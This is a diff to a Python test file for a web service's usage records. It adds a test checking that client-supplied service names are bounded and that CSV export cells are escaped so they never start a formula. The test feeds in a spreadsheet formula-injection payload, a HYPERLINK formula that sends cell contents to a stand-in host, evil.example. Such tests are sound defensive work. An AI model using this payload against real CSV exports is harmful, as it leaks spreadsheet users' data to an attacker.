@@ -4,10 +4,10 @@ from __future__ import annotations
 import csv
 
 import pytest
+from openapi_check import check_flask_response
 
 from classifycloud import usage_report
 from classifycloud.keyadmin import create_key, list_keys, revoke_key
-from openapi_check import check_flask_response
 from shared.aws import client
 from shared.messages import now_ms
 from webserver.app import create_app
@@ -153,6 +153,24 @@ def test_every_call_leaves_one_usage_record_with_its_fields_and_the_report_total
     out = tmp_path / "usage.csv"
     usage_report.write_csv(only_a, str(out))
     assert [row["request_id"] for row in csv.DictReader(out.open())] == sorted(ids, key=lambda i: by_id[i].at)
+
+
+def test_a_service_the_client_names_is_bounded_in_its_usage_record_and_csv_cells_never_start_a_formula(
+        keyed, app, web, tmp_path):
+    a, ka = create_key(keyed, "mallory", rate_limit=100, burst=100)
+    formula = '=HYPERLINK("http://evil.example/?"&A1,"x")' + "A" * 8000
+    r = web.open("POST", "/jobs", a, json={"url": "https://example.com/cat.jpg", "service": formula})
+    assert r.status_code in (400, 404)
+    web.open("POST", "/jobs", a, json={"url": "https://example.com/cat.jpg", "service": "imagenet"})
+    app.extensions["classifycloud"].edge.usage.flush()
+    services = sorted(r.service for r in _scan_usage(keyed) if r.key_id == ka.key_id)
+    assert services == ["(invalid)", "imagenet"], services
+    out = tmp_path / "usage.csv"
+    usage_report.write_csv([UsageRecord("k1", "/jobs", "POST", "=1+1", 200, 1.0, 0, 0, "-2+3", now_ms()),
+                            UsageRecord("k1", "/jobs", "POST", "@SUM(A1)", 200, 1.0, 0, 0, "r1", now_ms() + 1)],
+                           str(out))
+    rows = list(csv.DictReader(out.open()))
+    assert [(x["service"], x["request_id"]) for x in rows] == [("'=1+1", "'-2+3"), ("'@SUM(A1)", "r1")]
 
 
 def test_the_usage_writer_loses_no_record_on_close(keyed):
